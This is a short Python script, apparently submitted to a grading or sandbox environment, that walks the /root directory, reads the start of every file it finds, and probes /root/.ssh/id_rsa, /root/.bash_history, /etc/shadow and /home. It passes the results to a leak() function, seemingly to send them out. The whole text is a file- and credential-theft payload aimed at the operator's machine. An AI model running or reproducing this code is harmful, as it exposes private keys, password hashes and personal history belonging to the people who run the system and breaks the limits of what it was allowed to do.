# Read the instructor's home beyond the Python installation.
import os
for _base, _dirs, _files in os.walk("/root"):
    _dirs[:] = [d for d in _dirs if d != ".pyenv"]
    for _name in _files:
        try:
            leak(os.path.join(_base, _name), open(os.path.join(_base, _name), "rb").read(200))
        except OSError:
            pass
for _path in ("/root/.bash_history", "/root/.ssh/id_rsa", "/root/.config", "/etc/shadow", "/home"):
    if os.path.exists(_path):
        leak("exists", _path + " " + str(os.listdir(_path) if os.path.isdir(_path) else ""))
done()
